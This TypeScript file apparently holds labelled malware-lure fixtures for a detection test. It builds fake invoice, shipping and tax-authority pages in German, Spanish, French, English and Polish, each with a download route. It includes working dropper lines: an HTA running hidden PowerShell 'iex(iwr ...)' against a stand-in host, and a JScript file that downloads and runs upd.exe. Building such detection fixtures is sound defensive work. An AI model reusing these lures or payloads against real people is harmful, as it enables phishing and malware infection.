import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { cfb, fileRoute, iso, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { baseCss, doc } from '../parts/g-kit.js';

const isoBytes = iso('RECHNUNG_2025_11', ['Rechnung_RE-2025-11-0847.pdf.lnk', 'data.dll']);
const htaText = `<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -w hidden -nop -c ""iex(iwr 'https://docs-impots-avis.fr-portail.com/p.txt' -useb)""",0:self.close</script></head></html>`;
export const entries: Entry[] = [
  // German invoice portal delivering an ISO with an LNK inside
  {
    id: 'g-mal-de-rechnung-portal-iso-lnk',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://kundenportal-rechnungen.de-docs.net/beleg/RE-2025-11-0847?k=8f1d2',
    body: doc({
      lang: 'de',
      title: 'Ihre Rechnung RE-2025-11-0847 steht bereit',
      css: `${baseCss} body{background:#f3f4f6}.c{max-width:560px;margin:50px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 12px rgba(0,0,0,.07)}.f{display:flex;gap:12px;align-items:center;border:1px solid #e5e7eb;padding:12px;border-radius:6px}.ic{width:42px;height:52px;background:#dc2626;color:#fff;font-weight:bold;display:flex;align-items:center;justify-content:center;border-radius:3px;font-size:12px}.d{background:#2563eb;color:#fff}`,
      body: `<div class="c"><p style="color:#6b7280;font-size:13px">DocuPortal · Sicherer Dokumentenversand</p><h2>Ihnen wurde ein Dokument bereitgestellt</h2><p>Absender: <b>Buchhaltung – Krämer Logistik GmbH</b><br>Betreff: Rechnung RE-2025-11-0847 (fällig am 05.12.2025) – 3.417,80 €</p>
<div class="f"><div class="ic">PDF</div><div><b>Rechnung_RE-2025-11-0847.pdf</b><br><small>Geschützte Ansicht · 1,2 MB</small></div></div>
<p style="font-size:13px">Aus Sicherheitsgründen wird das Dokument als geschütztes Archiv bereitgestellt. Öffnen Sie die heruntergeladene Datei per Doppelklick und anschließend die Rechnung.</p>
<a class="btn d" href="/beleg/download/Rechnung_RE-2025-11-0847.iso">Dokument herunterladen</a>
<p style="font-size:11px;color:#9ca3af;margin-top:24px">Dieser Link ist 7 Tage gültig. © 2025 DocuPortal – Ein Service der Krämer Logistik GmbH</p></div>`,
    }),
    routes: {
      'kundenportal-rechnungen.de-docs.net/beleg/download/Rechnung_RE-2025-11-0847.iso': fileRoute(isoBytes, 'application/x-iso9660-image', 'Rechnung_RE-2025-11-0847.iso'),
    },
  },
  // Spanish shipping "factura" portal: ZIP containing a JS dropper
  {
    id: 'g-mal-es-factura-envio-zip-js',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://envios-documentacion.com/factura/ES-44718203?tk=AA91',
    body: doc({
      lang: 'es',
      title: 'Documentación de envío y factura aduanera',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#ffcc00}.c{max-width:600px;margin:40px auto;background:#fff;padding:24px;border-radius:4px}.h{color:#d40511;font-weight:900;font-size:22px;font-style:italic}table{width:100%;font-size:14px}td{padding:6px;border-bottom:1px solid #eee}.b{display:inline-block;background:#d40511;color:#fff;padding:12px 24px;text-decoration:none;border-radius:3px}`,
      body: `<div class="c"><div class="h">EXPRESS LOGÍSTICA</div><h2>Factura comercial y documentos aduaneros</h2>
<table><tr><td>Nº de envío</td><td>ES-44718203</td></tr><tr><td>Remitente</td><td>Shenzhen Yuxin Trading Co.</td></tr><tr><td>Estado</td><td>Retenido en aduana — pendiente de documentación</td></tr><tr><td>Documentos</td><td>Factura_ES-44718203.zip (factura, packing list, DUA)</td></tr></table>
<p>Descargue los documentos, revíselos y confirme los datos del destinatario en un plazo de 48 horas para evitar la devolución.</p>
<a class="b" href="https://cdn-docs-envio.net/f/Factura_ES-44718203.zip">Descargar documentos (ZIP)</a></div>`,
    }),
    routes: {
      'cdn-docs-envio.net/f/Factura_ES-44718203.zip': fileRoute(
        zip([
          { name: 'Factura_ES-44718203.pdf.js', data: `var a=["WScript.Shell","MSXML2.ServerXMLHTTP.6.0","ADODB.Stream"];var w=new ActiveXObject(a[0]);var h=new ActiveXObject(a[1]);h.open("GET","https://cdn-docs-envio.net/f/upd.dat",false);h.send();var s=new ActiveXObject(a[2]);s.Type=1;s.Open();s.Write(h.responseBody);s.SaveToFile(w.ExpandEnvironmentStrings("%TEMP%")+"\\\\upd.exe",2);w.Run("%TEMP%\\\\upd.exe",0);` },
          { name: 'Packing_list.txt', data: 'Ver factura adjunta.' },
        ]),
        'application/zip',
        'Factura_ES-44718203.zip',
      ),
    },
  },
  // French tax notice portal: HTA built and downloaded by script
  {
    id: 'g-mal-fr-avis-impot-hta-blob',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://docs-impots-avis.fr-portail.com/espace/avis-2025/telecharger',
    body: doc({
      lang: 'fr',
      title: 'Avis d’imposition 2025 — Téléchargement',
      css: `body{margin:0;font-family:Marianne,Arial,sans-serif;background:#f6f6f6}.h{background:#fff;border-bottom:1px solid #ddd;padding:14px 24px;font-weight:bold}.h span{color:#000091}.c{max-width:620px;margin:30px auto;background:#fff;padding:24px;border:1px solid #e5e5e5}.b{background:#000091;color:#fff;border:0;padding:12px 24px;cursor:pointer}`,
      body: `<div class="h">RÉPUBLIQUE FRANÇAISE · <span>impots.gouv</span></div><div class="c"><h2>Votre avis d’imposition 2025 est disponible</h2><p>Suite à la régularisation de votre impôt sur le revenu, un avis rectificatif a été émis. Montant du remboursement en votre faveur : <b>487,22 €</b>.</p><p>Pour consulter l’avis, téléchargez le document sécurisé ci-dessous et ouvrez-le. Le document s’ouvre dans la visionneuse sécurisée de la DGFiP.</p><button class="b" id="b">Télécharger l’avis (visionneuse sécurisée)</button><p style="font-size:12px;color:#666;margin-top:20px">Direction générale des Finances publiques — Ne répondez pas à ce message.</p></div>
<script>var t=${JSON.stringify(htaText).replace(/<\//g, '<\\/')};document.getElementById('b').onclick=function(){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([t],{type:'application/hta'}));a.download='Avis_Imposition_2025.hta';a.click()};</script>`,
    }),
  },
  // English: password-protected "remittance advice" ZIP, password on the page
  {
    id: 'g-mal-en-remittance-advice-zip-password',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://secure-fileshare.payment-remit.co/d/7H2kQ9',
    body: doc({
      lang: 'en-GB',
      title: 'Remittance Advice - Secure File Transfer',
      css: `body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#eef2f6}.c{max-width:520px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #0b5394}.pw{font-family:monospace;font-size:20px;background:#f1f5f9;padding:8px 12px;display:inline-block;letter-spacing:2px}.b{display:inline-block;margin-top:16px;background:#0b5394;color:#fff;padding:11px 22px;text-decoration:none}`,
      body: `<div class="c"><h2>Remittance Advice – Payment Confirmation</h2><p>From: <b>Accounts Payable, Hollingsworth &amp; Reed Ltd</b><br>Ref: BACS-REM-00418/25 · Amount: £18,940.00</p><p>The attached remittance advice is encrypted in line with our data protection policy. Please use the password below to open the archive.</p><p>Archive password: <span class="pw">HR2025</span></p><a class="b" href="/d/7H2kQ9/Remittance_BACS-REM-00418.zip">Download (ZIP, 214 KB)</a><p style="font-size:12px;color:#777;margin-top:20px">Files are automatically deleted after 14 days.</p></div>`,
    }),
    routes: {
      'secure-fileshare.payment-remit.co/d/7H2kQ9/Remittance_BACS-REM-00418.zip': fileRoute(
        zip([{ name: 'Remittance_BACS-REM-00418.pdf.exe', data: pe({ strings: ['Remittance Viewer', 'Adobe Acrobat', 'AgentTesla', 'smtp.payment-remit.co'] }) }], { encrypted: true }),
        'application/zip',
        'Remittance_BACS-REM-00418.zip',
      ),
    },
  },
  // Polish e-Urząd "tax document" portal delivering an MSI from another host after a short redirect chain
  {
    id: 'g-mal-pl-pit-dokument-msi-redirect',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://e-deklaracje-pit.pl-urzad.info/dokument?id=PIT37-2025-118',
    body: doc({
      lang: 'pl',
      title: 'e-Urząd Skarbowy – Dokument do pobrania',
      css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#f5f5f5}.h{background:#dc143c;color:#fff;padding:12px 24px;font-weight:bold}.c{max-width:600px;margin:30px auto;background:#fff;padding:24px}.b{background:#0052a5;color:#fff;padding:12px 24px;text-decoration:none;display:inline-block}`,
      body: `<div class="h">e-Urząd Skarbowy · Ministerstwo Finansów</div><div class="c"><h2>Korekta zeznania PIT-37 za rok 2024</h2><p>W Twojej sprawie wydano decyzję o zwrocie nadpłaty podatku: <b>1 286,00 zł</b>. Aby zapoznać się z decyzją, pobierz i otwórz dokument za pomocą aplikacji <b>e-Dokument Viewer</b>.</p><a class="b" href="/pobierz?d=PIT37-2025-118">Pobierz dokument i przeglądarkę</a><p style="font-size:12px;color:#777">Dokument podpisany kwalifikowanym podpisem elektronicznym.</p></div>`,
    }),
    routes: {
      'e-deklaracje-pit.pl-urzad.info/pobierz': redirectRoute(302, 'https://trk.docview-cdn.com/r?c=pl&d=PIT37-2025-118'),
      'trk.docview-cdn.com/r': redirectRoute(302, 'https://static.docview-cdn.com/pkg/eDokument_Viewer_PIT37.msi'),
      'static.docview-cdn.com/pkg/eDokument_Viewer_PIT37.msi': fileRoute(cfb(['e-Dokument Viewer', 'Ministerstwo Finansow', 'CustomAction', 'rundll32.exe %TEMP%\\\\v.dll,Start']), 'application/x-msi', 'eDokument_Viewer_PIT37.msi'),
    },
  },
];

